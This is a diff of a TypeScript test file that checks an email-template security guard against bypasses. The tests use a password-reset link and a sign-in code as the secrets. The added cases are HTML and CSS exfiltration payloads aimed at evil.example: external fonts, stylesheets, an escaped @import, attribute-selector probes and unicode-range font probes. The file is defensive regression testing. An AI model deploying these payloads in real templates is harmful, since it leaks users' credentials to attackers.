@@ -24,7 +24,10 @@ const SECRETS = [
   ['code', 'sign-in-code'],
 ] as const
 
-/** The security review's six bypasses of the guard (security.md, finding 2), and similar ones. */
+/**
+ * Ways around the guard, each for the link and for the code. The first six are those of the security review: twelve ways, which all
+ * were accepted.
+ */
 const WAYS: readonly [string, (secret: string) => string][] = [
   ['an unquoted src', (s) => layout(s, `<img src=https://evil.example/{{ ${s} }}>`)],
   ['an unquoted href', (s) => layout(s, `<a href=https://evil.example/{{ ${s} }}>a new password</a>`)],
@@ -47,6 +50,21 @@ const WAYS: readonly [string, (secret: string) => string][] = [
   ['an attribute given twice', (s) => layout(s, `<img src="a.png" src="https://evil.example/{{ ${s} }}">`)],
   ['another address in text', (s) => layout(s, `https://evil.example/<b>{{ ${s} }}</b>`)],
   ['the href of another element', (s) => layout(s, `<area href="{{ ${s} }}">`)],
+  // Styles that report which links or letters they find, with one picture or font for each guess.
+  [
+    'a font of another server',
+    (s) => layout(s, '<p style="font-family: X">x</p>', '<mj-font name="X" href="https://evil.example/x" />'),
+  ],
+  ['a style sheet of another server', (s) => layout(s, '<link rel=stylesheet href=https://evil.example/x>')],
+  ['a style that imports', (s) => layout(s, '<style>@\\69mport "https://evil.example/x"</style>')],
+  [
+    'a selector of addresses',
+    (s) => layout(s, '<style>a[/**/*|href*="#a"] { background: url(https://evil.example/a) }</style>'),
+  ],
+  [
+    'a font for single letters',
+    (s) => layout(s, '<style>@font-face { src: url(https://evil.example/1); unicode-range: U+31 }</style>'),
+  ],
 ]
 
 describe.each(SECRETS)('the %s of an email', (secret, key) => {
@@ -92,10 +110,10 @@ test.for(['script', 'base', 'meta', 'form', 'iframe', 'object', 'embed', 'noscri
   },
 )
 
-test('accepts a template with all MJML components, with the link in a button and in text', async () => {
+test('accepts a template with all MJML components, with the link in a button and in text, and loads no fonts', async () => {
   const mjml = `<mjml><mj-head><mj-title>Hello</mj-title><mj-preview>Hello</mj-preview>
-    <mj-font name="Raleway" href="https://fonts.example/css?family=Raleway" /><mj-style inline="inline">p { color: red }</mj-style>
-    </mj-head><mj-body><mj-hero background-url="https://x.example/a.png"><mj-text font-family="Raleway">Hi</mj-text></mj-hero>
+    <mj-style inline="inline">p { color: red }</mj-style><mj-style>.x[class="x"] { content: "\\201C" }</mj-style>
+    </mj-head><mj-body><mj-hero background-url="https://x.example/a.png"><mj-text font-family="Roboto">Hi</mj-text></mj-hero>
     <mj-section background-url="https://x.example/a.png"><mj-column><mj-social>
     <mj-social-element name="facebook" href="https://x.example/x">F</mj-social-element></mj-social>
     <mj-accordion><mj-accordion-element><mj-accordion-title>a</mj-accordion-title><mj-accordion-text>b</mj-accordion-text>
@@ -106,6 +124,7 @@ test('accepts a template with all MJML components, with the link in a button and
   const { problems, html } = await admin.call(emailTemplates.preview, { key: 'invitation', ...words })
   expect(problems).toEqual([])
   expect(html.split('https://cars.example.com/auth/reset-password#sample')).toHaveLength(4)
+  expect(html).not.toContain('fonts.googleapis')
 })
 
 test('sends the built-in template instead of an unsafe one saved before the guard existed', async () => {
